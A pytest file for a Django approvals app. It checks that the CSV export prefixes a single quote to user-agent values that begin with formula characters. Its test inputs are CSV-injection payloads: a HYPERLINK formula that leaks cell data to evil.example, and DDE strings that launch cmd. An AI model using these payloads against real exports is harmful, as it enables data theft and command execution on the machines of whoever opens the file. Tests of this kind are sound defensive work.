"""CSV injection from the attacker's side: text we do not control reaches export.csv, which an
auditor opens in a spreadsheet. A cell starting with = + - @ tab or carriage return would be
read as a formula (OWASP's list), so it must arrive prefixed with a single quote."""

import csv
import io

import pytest
from django.urls import reverse

from approvals.models import AccessRequest
from tests.web.conftest import verified_client

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


def export_rows(user, access_request) -> list[dict[str, str]]:
    response = verified_client(user).get(reverse("request_export", args=[access_request.pk, "csv"]))
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.django_db
@pytest.mark.parametrize(
    "user_agent",
    [
        HYPERLINK,
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_in_a_requesters_user_agent_is_neutralised_in_the_csv(cast, user_agent):
    client = verified_client(cast.requester)
    client.post(
        reverse("request_new"),
        {
            "profile": cast.profile.slug,
            "ticket": "INC-4242",
            "justification": "Primary database is read-only; need to fail over.",
            "duration_minutes": "30",
        },
        HTTP_USER_AGENT=user_agent,
    )
    access_request = AccessRequest.objects.get()

    [opened] = export_rows(cast.auditor, access_request)

    assert opened["code"] == "approvals.request.opened"
    assert opened["user_agent"] == "'" + user_agent


@pytest.mark.django_db
def test_an_ordinary_user_agent_is_exported_as_it_was_recorded(cast):
    browser = "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"
    client = verified_client(cast.requester)
    client.post(
        reverse("request_new"),
        {
            "profile": cast.profile.slug,
            "ticket": "INC-4242",
            "justification": "Primary database is read-only; need to fail over.",
            "duration_minutes": "30",
        },
        HTTP_USER_AGENT=browser,
    )

    [opened] = export_rows(cast.auditor, AccessRequest.objects.get())

    assert opened["user_agent"] == browser
